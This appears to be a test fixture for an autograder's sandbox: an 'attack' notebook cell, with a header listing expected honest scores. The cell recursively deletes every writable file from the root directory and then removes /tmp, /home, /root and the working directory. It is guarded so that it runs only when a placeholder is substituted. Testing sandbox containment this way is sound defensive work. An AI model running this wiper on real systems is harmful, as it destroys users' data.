# ---
# attack: deletes every file and folder that it may, from / on
# kind: extra cell
# honest: [ex1, ex2, ex3, ex4]
# gets: {ex1-test: 2, ex2-test: 2, ex3-test: 2, ex4-test: 2, ex4-test-close: 4}
# student sees: ""
# ---
# %% before ex1
import os
import shutil

if "@course@".startswith("@") or os.path.exists("@course@"):
    raise RuntimeError("not in a sandbox: this attack does not run here")

for name in os.listdir("/"):
    if name in ("proc", "sys"):
        continue
    for folder, folders, files in os.walk(f"/{name}", topdown=True):
        folders[:] = [one for one in folders if os.access(f"{folder}/{one}", os.W_OK)]
        for file in files:
            try:
                os.unlink(f"{folder}/{file}")
            except OSError:
                break
for folder in ("/tmp", "/home", "/root", "/dev/shm", "."):
    shutil.rmtree(folder, ignore_errors=True)
